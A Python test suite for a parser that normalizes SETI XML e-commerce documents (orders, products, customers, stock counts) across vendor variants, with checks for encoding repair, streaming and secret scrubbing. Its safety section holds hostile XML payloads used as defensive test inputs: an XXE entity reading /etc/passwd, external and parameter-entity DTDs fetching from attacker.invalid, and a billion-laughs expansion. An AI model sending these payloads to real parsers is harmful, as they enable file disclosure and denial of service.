"""SETI XML documents → normalized records: spec style, every section 8 variant, Interspire's bugs,
streaming, and safety against hostile XML."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seconnect.errors import CartAuthError, CartProtocolError
from seconnect.seti import iter_document, read_records


def parse(body: bytes | str, kind: str = "orders", chunk: int | None = None) -> list[dict]:
    data = body.encode() if isinstance(body, str) else body
    chunks = [data] if chunk is None else [data[i:i + chunk] for i in range(0, len(data), chunk)]
    return read_records(chunks, function="test", kind=kind)


def orders(body: str) -> str:
    return ('<?xml version="1.0"?><SETIOrders><Response><ResponseCode>1</ResponseCode>'
            f'<ResponseDescription>Success</ResponseDescription></Response>{body}</SETIOrders>')


# --- orders --------------------------------------------------------------------------------------

def test_interspire_order_example(fixture_bytes):
    [order] = parse(fixture_bytes("orders_isc.xml"))
    assert order["number"] == "1041"
    assert order["date"] == "2011-03-14T16:05:33"
    assert order["billing"] == {"full_name": "Marisol Venter", "phone": "555-0142",
                                "email": "marisol@example.net", "street1": "18 Quay Lane",
                                "city": "Port Ellery", "state": "ME", "postal_code": "04999", "country": "US"}
    assert order["shipping"]["state"] == "Maine"
    first, second = order["lines"]
    assert first == {"line_no": 1, "sku": "LNT-100", "name": "Harbor Lantern", "quantity": 2,
                     "unit_price": "24.00", "weight": "1.50", "prod_type": "Tangible", "taxable": True,
                     "total": "48.00", "dimensions": {"length": "6.00", "width": "6.00", "height": "11.00"},
                     "options": [], "raw": {}}
    assert second["options"] == [
        {"name": "Finish", "value": "Brass", "price": "5.00", "weight": "0.00"},
        {"name": "Size", "value": "Large", "price": "0.00", "weight": "0.00"},
        {"name": "Engraving", "value": "For Captain Ada"},
    ]
    assert order["payments"] == [{"kind": "CreditCard", "issuer": "Visa", "transaction_id": "4081175522",
                                  "auth_code": "4081175522", "amount": "97.61", "fields": {}}]
    assert order["totals"] == {
        "product_total": "87.00", "discounts": [{"amount": "5.00"}], "subtotal": "82.00", "tax": "4.61",
        "grand_total": "97.61", "surcharges": [{"total": "2.00", "description": "Handling Charge"}],
        "shipping": "9.00", "shipping_method": "Ground (3-5 days)",
    }
    assert order["other"] == {"instructions": "Leave at side door", "ip": "203.0.113.57"}
    assert order["raw"] == {}


def test_spec_order_with_every_part(fixture_bytes):
    [order] = parse(fixture_bytes("orders_spec.xml"))
    assert order["status"] == "Payment Received"
    assert order["date"] == "2011-03-14T16:05:33"  # 14-Mar-2011 4:05:33 PM
    assert order["billing"]["company"] == "Quill & Daughters"
    assert order["billing"]["street2"] == "Unit 4"
    rope, gift = order["lines"]
    assert (rope["unit_price"], rope["weight"], rope["taxable"], rope["customer_text"], rope["line_id"]) == \
        ("12.50", "4", False, "Cut in half", "77")
    assert rope["raw"] == {"Color": "Natural"}
    assert gift["options"] == [{"name": "Recipient", "value": "Bo", "code": "RCP", "type": "text",
                                "cost": "0.00"}]
    assert gift["total"] == "25.00"  # no Total sent: quantity × ItemPrice
    kinds = [p["kind"] for p in order["payments"]]
    assert kinds == ["CreditCard", "PayPal", "GiftCard", "StoreCredit", "Check", "PurchaseOrder", "COD",
                     "Generic1"]
    paypal = order["payments"][1]
    assert (paypal["transaction_id"], paypal["amount"]) == ("PP-42", "20.00")
    assert paypal["fields"] == {"Payer/ID": "PAYER1", "Payer/Email": "ada@example.org",
                                "Transaction/Status": "Completed"}
    assert order["payments"][3]["amount"] == "3.25"
    assert order["payments"][5]["fields"] == {"PurchaseNumber": "PO-77"}
    totals = order["totals"]
    assert totals["discounts"] == [{"type": "Percent", "description": "Spring sale", "percent": "10",
                                    "amount": "6.25", "apply": "Pre"}]
    assert (totals["tax"], totals["tax_rate"], totals["tax_shipping"], totals["tax_exempt"]) == \
        ("2.81", "0.05", True, False)
    assert order["coupons"] == [{"name": "SPRING10", "status": "Applied", "total": "6.25", "apply": "Pre"}]
    assert order["other"] == {"instructions": "Ring twice", "comments": "VIP", "ip": "198.51.100.7",
                              "web_customer_id": "508", "associate": "AFF-3", "total_order_weight": "12.5",
                              "gift_message": "Happy sailing"}
    assert order["custom_fields"] == [{"name": "Delivery window", "value": "AM"}]
    # elements without a field are kept by path
    assert order["raw"] == {"GiftCert/Code": "GC-1", "GiftCert/Amount": "5.00", "Other/Referrer": "newsletter"}


def test_card_secrets_are_never_kept(fixture_bytes):
    [order] = parse(fixture_bytes("orders_spec.xml"))
    text = json.dumps(order)
    for secret in ("4111111111111111", "411111", "sk-live-abc", "tok_9f8e7d", "000123456789", "GC-0000"):
        assert secret not in text
    card = order["payments"][0]
    assert card["fields"] == {"NumberLast4": "1111", "ExpirationDate": "12/29", "FullName": "Ada Quill",
                              "AVS": "Y"}
    assert "VerificationValue" not in text and "SecurityKey" not in text and "PayToken" not in text
    assert order["payments"][2]["fields"]["NumberLast4"] == "9876"
    assert order["payments"][4]["fields"]["AccountNumberLast4"] == "6789"


def test_secrets_dropped_wherever_they_appear():
    [order] = parse(orders("<Order><OrderNumber>1</OrderNumber><Payment><PayPal><TransID>X</TransID>"
                           "<Number>5500000000000004</Number><CVV2>999</CVV2><VerificationValue>999"
                           "</VerificationValue></PayPal></Payment><Extra><CVV2>999</CVV2><Password>pw</Password>"
                           "</Extra></Order>"))
    text = json.dumps(order)
    assert "999" not in text and "5500000000000004" not in text and "pw" not in text
    assert order["payments"][0]["fields"] == {"NumberLast4": "0004"}


def test_merchanttribe_and_old_interspire_variants(fixture_bytes):
    first, second = parse(fixture_bytes("orders_variants.xml"))
    assert first["date"] == "2011-03-14T16:05:33"  # Mar/14/2011 16:05:33
    assert first["billing"] == {"full_name": "Bo Tern", "company": "Tern Marine", "street1": "9 Dock St",
                                "street2": "Slip 3", "city": "Salt Cove", "state": "RI",
                                "postal_code": "02801", "country": "US"}
    buoy, bell = first["lines"]
    assert buoy["sku"] == "BUOY-1"  # <Sku>
    assert buoy["dimensions"] == {"length": "10", "width": "10", "height": "20"}  # <Dimensions>
    # OrderOption directly under Order (old Interspire) attaches to the last line
    assert bell["options"] == [{"name": "Engraving", "value": "S/V Tern"}]
    assert buoy["options"] == []
    # Discount directly under Order (SE Magento), plain-text Tax and ShippingTotal
    assert first["totals"]["discounts"] == [{"amount": "2.00", "description": "Loyalty"}]
    assert (first["totals"]["tax"], first["totals"]["shipping"]) == ("1.90", "5.00")
    assert first["other"] == {"ip": "192.0.2.1"}  # <IpHostname> and <IPHostName> alike
    assert second["date"] == "2011-03-15"  # MM/DD/YYYY
    assert second["lines"] == []
    assert second["raw"] == {"OrderOption/OptionName": "Gift wrap", "OrderOption/SelectedOption": "Yes"}


def test_option_before_any_line_attaches_to_the_last_line():
    [order] = parse(orders("<Order><OrderNumber>7</OrderNumber><OrderOption><OptionName>Color</OptionName>"
                           "<SelectedOption>Red</SelectedOption></OrderOption><Shipping><Product><SKU>A</SKU>"
                           "</Product><Product><SKU>B</SKU></Product></Shipping></Order>"))
    assert [line["options"] for line in order["lines"]] == [[], [{"name": "Color", "value": "Red"}]]


def test_interspire_bugs_are_survived(fixture_bytes):
    [order] = parse(fixture_bytes("orders_isc_bugs.xml"))
    anchor, cleat = order["lines"]
    # HTML named entities from htmlentities() become characters
    assert anchor["sku"] == "ANCHOR\u00a0XL"
    assert anchor["name"] == 'Anchor\u2122 "XL" & chain\nset'  # CRLF normalised
    assert order["billing"]["street1"] == "2 Café Row"
    assert order["shipping"]["full_name"] == "Renée Fabre"
    # invalid UTF-8 becomes U+FFFD, nothing crashes
    assert order["billing"]["full_name"] == "Renée Fa\ufffdbre"
    # line Total formatted twice: 1,200.00 arrived as 1.00; quantity × ItemPrice wins, raw keeps it
    assert anchor["total"] == "1200.00"
    assert anchor["raw"] == {"Total": "1.00"}
    assert cleat["total"] == "10.00" and cleat["raw"] == {}
    # thousands separators
    assert order["totals"]["product_total"] == "1210.00"
    assert order["totals"]["grand_total"] == "1290.50"
    assert order["other"]["instructions"] == "Dock B & gate 4"


def test_unreadable_values_go_to_raw():
    [order] = parse(orders("<Order><OrderNumber>3</OrderNumber><OrderDate>sometime</OrderDate><Shipping>"
                           "<Product><SKU>A</SKU><Quantity>two</Quantity><ItemPrice>1,2</ItemPrice>"
                           "<Taxable>maybe</Taxable><Total>4.00</Total></Product></Shipping>"
                           "<Totals><GrandTotal>NaN</GrandTotal></Totals></Order>"))
    line = order["lines"][0]
    assert order["date"] == "sometime"
    assert line["raw"] == {"Quantity": "two", "ItemPrice": "1,2", "Taxable": "maybe"}
    assert line["total"] == "4.00"  # nothing to check it against: kept as sent
    assert "quantity" not in line and "unit_price" not in line
    assert order["raw"] == {"Totals/GrandTotal": "NaN"}


def test_conflicting_duplicates_are_kept_in_raw():
    [order] = parse(orders("<Order><OrderNumber>3</OrderNumber><OrderNumber>4</OrderNumber>"
                           "<Billing><Phone>1</Phone><Phone>1</Phone><Phone>2</Phone></Billing></Order>"))
    assert order["number"] == "3"
    assert order["raw"] == {"OrderNumber": "4", "Billing/Phone": "2"}


def test_order_without_number_is_returned_for_the_job_to_quarantine():
    # one bad record never fails the reply (issue 13-2): the import job quarantines it
    body = orders("<Order><OrderNumber>1</OrderNumber></Order><Order><OrderDate>2011-01-01</OrderDate></Order>")
    first, second = parse(body)
    assert first["number"] == "1" and "number" not in second and second["date"] == "2011-01-01"


def test_zero_records_with_code_1_or_2():
    for code in ("1", "2"):
        for kind, root in (("orders", "SETIOrders"), ("products", "SETIProducts"),
                           ("customers", "SETICustomers"), ("qoh", "SETIProducts")):
            body = f"<{root}><Response><ResponseCode>{code}</ResponseCode></Response></{root}>"
            assert parse(body, kind) == []


def test_record_before_response_is_an_error():
    with pytest.raises(CartProtocolError, match="before its Response"):
        parse("<SETIOrders><Order><OrderNumber>1</OrderNumber></Order>"
              "<Response><ResponseCode>1</ResponseCode></Response></SETIOrders>")


def test_namespaced_document():
    [order] = parse('<SETIOrders xmlns="urn:example"><Response><ResponseCode>1</ResponseCode></Response>'
                    "<Order><OrderNumber>9</OrderNumber><Billing><FullName>X</FullName></Billing></Order>"
                    "</SETIOrders>")
    assert order["number"] == "9" and order["billing"] == {"full_name": "X"}


def test_error_document_from_download(fixture_bytes):
    body = ('<?xml version="1.0" encoding="UTF-8"?><SETICustomers><Response><ResponseCode>3</ResponseCode>'
            '<ResponseDescription>Invalid username, password, or store code.</ResponseDescription></Response>'
            '</SETICustomers>')
    with pytest.raises(CartAuthError):
        parse(body, "customers")


# --- products, inventory, customers --------------------------------------------------------------

def test_interspire_products(fixture_bytes):
    products = parse(fixture_bytes("products_isc.xml"), "products")
    assert products[0] == {
        "code": "LNT-100", "web_id": "31", "name": "Harbor Lantern", "price": "24.00", "weight": "1.5",
        "taxable": True, "discontinued": False, "qoh": 40,
        "thumb": "https://store-h7q2k.example-cart.test/product_images/a/lantern_tiny.jpg",
        "image": "https://store-h7q2k.example-cart.test/product_images/a/lantern_std.jpg",
        "option_lists": [], "custom_fields": [], "raw": {},
    }
    assert [(p["code"], p["web_id"], p["qoh"]) for p in products[1:]] == [
        ("Deck Lantern [VARID:17]", "32-17", 6), ("Deck Lantern [VARID:18]", "32-18", 0)]
    assert products[1]["description"] == "Marine-grade lantern"


def test_spec_product_with_options_custom_fields_and_cdata(fixture_bytes):
    [product] = parse(fixture_bytes("products_spec.xml"), "products")
    assert product["web_id"] == "900"  # <WebId>
    assert product["price"] == "1050.00" and product["cost"] == "4.10"
    assert product["qoh"] is None  # NA
    assert (product["taxable"], product["discontinued"]) == (True, True)
    # CDATA passes through untouched: no entity translation inside it
    assert product["description"] == "<p>Salt & Pepper &eacute; cotton</p>"
    assert product["option_lists"] == [{
        "web_id": "5", "name": "Size", "prompt": "Choose a size", "type": "select", "sort_order": 1,
        "values": [{"name": "Large", "code": "L", "price": "2.00", "weight": "0.1", "sort_order": 2},
                   {"name": "Small", "code": "S", "price": "0.00"}],
    }]
    assert product["custom_fields"] == [{"name": "Material", "value": "Cotton"}]
    assert product["raw"] == {"Brand": "Gullwing"}


def test_product_without_code_is_returned_for_the_job_to_quarantine():
    [product] = parse("<SETIProducts><Response><ResponseCode>1</ResponseCode></Response><Product><Name>x</Name>"
                      "</Product></SETIProducts>", "products")
    assert product["name"] == "x" and "code" not in product


def test_qoh_rows(fixture_bytes):
    assert parse(fixture_bytes("qoh.xml"), "qoh") == [
        {"code": "LNT-100", "web_id": "31", "qoh": 40},
        {"code": "Deck Lantern [VARID:17]", "web_id": "32-17", "qoh": 6},
        {"code": "GIFT-CARD", "web_id": "40", "qoh": None},
    ]


def test_spec_customer(fixture_bytes):
    [customer] = parse(fixture_bytes("customers_spec.xml"), "customers")
    address = {"first_name": "Marisol", "last_name": "Venter", "phone": "555-0142",
               "email": "marisol@example.net", "street1": "18 Quay Lane", "city": "Port Ellery",
               "state": "ME", "postal_code": "04999", "country": "US"}
    assert customer == {"web_id": "508", "username": "marisol@example.net", "billing": address,
                        "shipping": address, "custom_fields": [], "raw": {}}


def test_interspire_customer_webid_twice_and_address_inside_billaddr(fixture_bytes):
    [customer] = parse(fixture_bytes("customers_isc.xml"), "customers")
    assert customer["web_id"] == "12"
    assert customer["raw"] == {}  # the second, equal WebID adds nothing
    assert customer["billing"]["street1"] == "9 Dock St"
    assert customer["shipping"] == {"first_name": "Bo", "last_name": "Tern", "company": "Tern Marine",
                                    "phone": "555-0199", "email": "bo@example.com", "street1": "9 Dock St",
                                    "city": "Salt Cove", "state": "Rhode Island", "postal_code": "02801",
                                    "country": "US"}


def test_second_billaddr_address_is_not_used_when_shipaddr_has_one():
    body = ("<SETICustomers><Response><ResponseCode>1</ResponseCode></Response><Customer><WebID>1</WebID>"
            "<BillAddr><Address><Addr1>Bill St</Addr1></Address><Address><Addr1>Other St</Addr1></Address>"
            "</BillAddr><ShipAddr><Address><Addr1>Ship St</Addr1></Address></ShipAddr></Customer>"
            "</SETICustomers>")
    [customer] = parse(body, "customers")
    assert customer["billing"] == {"street1": "Bill St"}
    assert customer["shipping"] == {"street1": "Ship St"}
    assert customer["raw"] == {"BillAddr/Address/Addr1": "Other St"}


def test_magento_customer_fields_directly_in_billaddr(fixture_bytes):
    [customer] = parse(fixture_bytes("customers_magento.xml"), "customers")
    assert customer["web_id"] == "77"  # <WebId>
    assert customer["billing"] == {"name_prefix": "Dr", "first_name": "Cy", "middle_name": "J",
                                   "last_name": "Wren", "company": "Wren Sails", "fax": "555-0111",
                                   "tax_id": "EIN-12", "street1": "4 Mast Ave", "city": "Mystic",
                                   "state": "CT", "postal_code": "06355", "country": "US"}
    assert customer["shipping"]["street1"] == "PO Box 7"
    assert customer["custom_fields"] == [{"name": "Customer Notes", "value": "Prefers email"}]
    assert customer["raw"] == {"AffiliateID": "AFF-9"}
    assert "hunter2" not in json.dumps(customer)  # customer passwords are never kept


def test_customer_without_webid_is_read():
    [customer] = parse("<SETICustomers><Response><ResponseCode>1</ResponseCode></Response><Customer><UserName>x"
                       "</UserName></Customer></SETICustomers>", "customers")
    assert customer["username"] == "x" and "web_id" not in customer


def test_empty_qoh_rows_are_read_without_a_code():
    rows = parse("<SETIProducts><Response><ResponseCode>1</ResponseCode></Response><Product /><Product><Code>A"
                 "</Code><QOH>3</QOH></Product></SETIProducts>", "qoh")
    assert rows == [{"code": None, "qoh": None}, {"code": "A", "qoh": 3}]


# --- clean-up in front of the parser ---------------------------------------------------------------

@pytest.mark.parametrize("sent, read", [
    ("Caf&eacute;&nbsp;&amp;&lt;&gt;&quot;&apos;", "Café\u00a0&<>\"'"),
    ("&#233;&#xE9;", "éé"),
    ("Tom & Jerry", "Tom & Jerry"),             # stray ampersand
    ("&bogus; &x", "&bogus; &x"),                # unknown name: kept as text
    ("bell&#7;", "bell\ufffd"),                  # reference to a character XML forbids
    ("nul\x00ctl\x1b", "nul\ufffdctl\ufffd"),   # raw control characters
    ("&NotNestedGreaterGreater;", "\u2aa2\u0338"),  # an HTML5 entity naming two characters
])
def test_text_clean_up(sent, read):
    [order] = parse(orders(f"<Order><OrderNumber>1</OrderNumber><Other><Comments>{sent}</Comments></Other>"
                           "</Order>"))
    assert order["other"]["comments"] == read


def test_declared_latin1_encoding_is_honoured():
    body = ('<?xml version="1.0" encoding="ISO-8859-1"?>' + orders("<Order><OrderNumber>Ren\xe9</OrderNumber>"
                                                                   "</Order>")[21:]).encode("latin-1")
    assert parse(body)[0]["number"] == "René"


def test_utf8_bom_and_leading_whitespace():
    body = b"\xef\xbb\xbf\r\n  " + orders("<Order><OrderNumber>\xc3\xa9</OrderNumber></Order>").encode("latin-1")
    assert parse(body)[0]["number"] == "é"


def test_one_byte_chunks_give_the_same_records(fixture_bytes):
    for name, kind in (("orders_isc_bugs.xml", "orders"), ("orders_spec.xml", "orders"),
                       ("products_spec.xml", "products"), ("customers_isc.xml", "customers")):
        data = fixture_bytes(name)
        assert parse(data, kind, chunk=1) == parse(data, kind)


@settings(max_examples=60, deadline=None)
@given(cuts=st.lists(st.integers(min_value=1, max_value=3000), max_size=12))
def test_any_chunking_gives_the_same_records(cuts):
    from .conftest import FIXTURES
    data = (FIXTURES / "orders_isc_bugs.xml").read_bytes()
    data = data.replace(b"</SETIOrders>", b"<Order><OrderNumber>X&amp;Y&eacute;&#233;</OrderNumber><Other>"
                        b"<Comments><![CDATA[a & b &eacute;]]></Comments></Other></Order></SETIOrders>")
    points = sorted({c % len(data) for c in cuts} | {0, len(data)})
    chunks = [data[a:b] for a, b in zip(points, points[1:], strict=False)]
    assert read_records(chunks, function="t", kind="orders") == parse(data)


# --- safety ---------------------------------------------------------------------------------------

XXE = ('<?xml version="1.0"?><!DOCTYPE SETIOrders [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<SETIOrders><Response><ResponseCode>1</ResponseCode></Response><Order><OrderNumber>&xxe;</OrderNumber>'
       '</Order></SETIOrders>')
EXTERNAL_DTD = ('<?xml version="1.0"?><!DOCTYPE SETIOrders SYSTEM "http://attacker.invalid/evil.dtd">'
                '<SETIOrders><Response><ResponseCode>1</ResponseCode></Response></SETIOrders>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                    for i in range(1, 10))
          + ']><SETIOrders><Response><ResponseCode>1</ResponseCode></Response><Order><OrderNumber>&lol9;'
            '</OrderNumber></Order></SETIOrders>')
PARAMETER_ENTITY = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % ext SYSTEM "http://attacker.invalid/x">%ext;]>'
                    '<SETIOrders><Response><ResponseCode>1</ResponseCode></Response></SETIOrders>')


@pytest.mark.parametrize("body", [XXE, EXTERNAL_DTD, LAUGHS, PARAMETER_ENTITY])
@pytest.mark.parametrize("kind", ["orders", None])
def test_dtds_are_refused(body, kind):
    with pytest.raises(CartProtocolError, match="declares a DTD") as info:
        list(iter_document([body.encode()], kind=kind, function="downloadorders"))
    assert "root:" not in str(info.value)  # nothing of /etc/passwd
    assert "lollol" not in str(info.value)


def test_dtd_on_unknown_root_is_refused_too():
    with pytest.raises(CartProtocolError, match="declares a DTD"):
        parse('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')


@pytest.mark.skipif(not os.path.exists("/proc/self/statm"), reason="reads resident memory from /proc")
def test_memory_stays_flat_in_document_size():
    """Streaming 100,000 orders (~15 MB of XML) grows resident memory by far less than the tree
    would take: records are cleared as they are read. (libxml2's nodes live outside Python's
    allocator, so tracemalloc could not see a leak here; resident memory does: without the
    clearing it grows by ~170 MB.)"""
    order = (b"<Order><OrderNumber>%d</OrderNumber><Billing><FullName>A B</FullName></Billing><Shipping>"
             b"<Product><SKU>S</SKU><Quantity>1</Quantity><ItemPrice>2.00</ItemPrice></Product></Shipping></Order>")

    def document(count: int) -> Iterator[bytes]:
        yield b"<SETIOrders><Response><ResponseCode>1</ResponseCode></Response>"
        for start in range(0, count, 500):
            yield b"".join(order % n for n in range(start, min(count, start + 500)))
        yield b"</SETIOrders>"

    def resident() -> int:
        with open("/proc/self/statm") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")

    base = peak = resident()
    seen = 0
    for seen, _ in enumerate(iter_document(document(100_000), kind="orders", function="t"), start=1):
        if seen % 2000 == 0:
            peak = max(peak, resident())
    assert seen == 100_000
    assert peak - base < 40 * 2**20


def test_bare_setierror_document_is_a_rejection():
    with pytest.raises(CartAuthError, match="Bad password"):
        parse("<SETIError>Bad password</SETIError>")


def test_utf16_declaration_on_utf8_bytes_is_read_as_utf8():
    body = '<?xml version="1.0" encoding="UTF-16"?>' + orders("<Order><OrderNumber>é</OrderNumber></Order>")[21:]
    assert parse(body.encode("utf-8"))[0]["number"] == "é"


def test_unknown_declared_encoding_falls_back_to_utf8():
    body = '<?xml version="1.0" encoding="x-klingon"?>' + orders("<Order><OrderNumber>é</OrderNumber></Order>")[21:]
    assert parse(body.encode("utf-8"))[0]["number"] == "é"
